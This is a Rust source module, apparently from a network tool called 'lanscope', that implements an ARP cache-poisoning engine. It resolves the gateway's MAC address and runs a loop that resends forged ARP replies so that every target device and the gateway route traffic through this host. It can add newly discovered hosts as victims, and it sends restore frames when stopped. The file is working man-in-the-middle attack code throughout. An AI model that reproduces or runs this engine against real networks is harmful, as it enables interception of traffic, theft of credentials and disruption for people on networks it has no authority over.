//! ARP redirection engine.
//!
//! Keeps a set of target devices convinced that this host is the
//! gateway (and the gateway convinced this host is each target) by
//! re-sending forged ARP replies on a fixed interval. Poisoned caches
//! decay on their own, so stopping the resend loop alone would heal the
//! network eventually; an explicit restore pass heals it immediately.

use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use parking_lot::{Mutex, RwLock};
use pnet::packet::arp::ArpOperations;
use pnet::util::MacAddr;
use tracing::{debug, info, warn};

use crate::error::{Result, SpoofError};
use crate::network::arp::{ArpFrameBuilder, HostInfo, parse_arp_packet};
use crate::network::{PacketCapture, PacketSender};

/// Restore replies are repeated so a single lost frame cannot leave a
/// victim's cache poisoned.
const RESTORE_ROUNDS: usize = 3;

/// The spoof target set, shared between the engine's tick loop and the
/// control surface that refreshes it.
pub type TargetMap = Arc<RwLock<HashMap<Ipv4Addr, MacAddr>>>;

/// Resolve a host's MAC by ARP request, waiting until the deadline.
pub fn resolve_mac<C, S>(
    capture: &mut C,
    sender: &mut S,
    builder: &ArpFrameBuilder,
    ip: Ipv4Addr,
    timeout: Duration,
) -> Result<MacAddr>
where
    C: PacketCapture,
    S: PacketSender,
{
    let deadline = Instant::now() + timeout;
    sender.send(&builder.build_arp_request(ip))?;

    while Instant::now() < deadline {
        let Some(frame) = capture.next_packet() else {
            break;
        };
        if let Some((operation, host)) = parse_arp_packet(&frame) {
            if operation == ArpOperations::Reply && host.ip == ip {
                return Ok(host.mac);
            }
        }
    }

    Err(SpoofError::GatewayUnresolved(ip).into())
}

/// The redirection engine. Owns the send side; the target map is shared.
pub struct SpoofEngine<S: PacketSender> {
    builder: ArpFrameBuilder,
    sender: S,
    gateway_mac: MacAddr,
    targets: TargetMap,
}

impl<S: PacketSender> SpoofEngine<S> {
    /// Create an engine over an initial target set.
    ///
    /// Declines with `NoTargets` rather than running an empty loop.
    pub fn new(
        builder: ArpFrameBuilder,
        sender: S,
        gateway_mac: MacAddr,
        initial_targets: HashMap<Ipv4Addr, MacAddr>,
    ) -> Result<Self> {
        if initial_targets.is_empty() {
            return Err(SpoofError::NoTargets.into());
        }
        info!(
            targets = initial_targets.len(),
            gateway = %builder.gateway_ip(),
            "redirection engine ready"
        );
        Ok(Self {
            builder,
            sender,
            gateway_mac,
            targets: Arc::new(RwLock::new(initial_targets)),
        })
    }

    /// Shared handle to the target map, for refreshing from outside.
    pub fn targets(&self) -> TargetMap {
        Arc::clone(&self.targets)
    }

    pub fn target_count(&self) -> usize {
        self.targets.read().len()
    }

    /// Send one round of poison frames to every target.
    ///
    /// A failed send is logged and skipped; one unreachable device must
    /// not stop redirection of the others. Returns how many targets were
    /// fully poisoned this round.
    pub fn spoof_tick(&mut self) -> usize {
        let snapshot: Vec<HostInfo> = self
            .targets
            .read()
            .iter()
            .map(|(&ip, &mac)| HostInfo { ip, mac })
            .collect();

        let mut poisoned = 0;
        for target in snapshot {
            let frames = self.builder.build_spoof_pair(target, self.gateway_mac);
            match frames.iter().try_for_each(|frame| self.sender.send(frame)) {
                Ok(()) => poisoned += 1,
                Err(e) => warn!(target_ip = %target.ip, error = %e, "spoof send failed"),
            }
        }
        metrics::counter!("lanscope_spoof_packets_total").increment((poisoned * 2) as u64);
        debug!(poisoned, "spoof tick");
        poisoned
    }

    /// Merge freshly discovered hosts into the target map.
    ///
    /// Snapshot-then-swap: existing targets keep getting poisoned while
    /// the merge is computed, and a device that went quiet this scan is
    /// kept rather than silently released un-restored.
    pub fn merge_targets(&self, discovered: HashMap<Ipv4Addr, MacAddr>) -> usize {
        let mut merged = self.targets.read().clone();
        merged.extend(discovered);
        let count = merged.len();
        *self.targets.write() = merged;
        count
    }

    /// Send restore frames to every target, several rounds each.
    ///
    /// Best effort by design: a send failure is logged and the remaining
    /// targets are still restored. Always attempts every target.
    pub fn restore_all(&mut self) {
        let snapshot: Vec<HostInfo> = self
            .targets
            .read()
            .iter()
            .map(|(&ip, &mac)| HostInfo { ip, mac })
            .collect();

        info!(targets = snapshot.len(), "restoring ARP caches");
        for _ in 0..RESTORE_ROUNDS {
            for target in &snapshot {
                let frames = self.builder.build_restore_pair(*target, self.gateway_mac);
                for frame in &frames {
                    if let Err(e) = self.sender.send(frame) {
                        warn!(target_ip = %target.ip, error = %e, "restore send failed");
                    }
                }
            }
        }
    }
}

/// Drive the engine on a fixed interval until the stop flag flips.
///
/// The flag is checked again after each tick fires, not just before the
/// wait: a tick already pending when stop lands must not send another
/// poison round. Callers join this loop before sending restore frames.
pub async fn run_spoof_loop<S: PacketSender>(
    engine: Arc<Mutex<SpoofEngine<S>>>,
    stop: Arc<AtomicBool>,
    interval: Duration,
) {
    let mut ticker = tokio::time::interval(interval);
    loop {
        ticker.tick().await;
        if stop.load(Ordering::SeqCst) {
            break;
        }
        engine.lock().spoof_tick();
    }
}
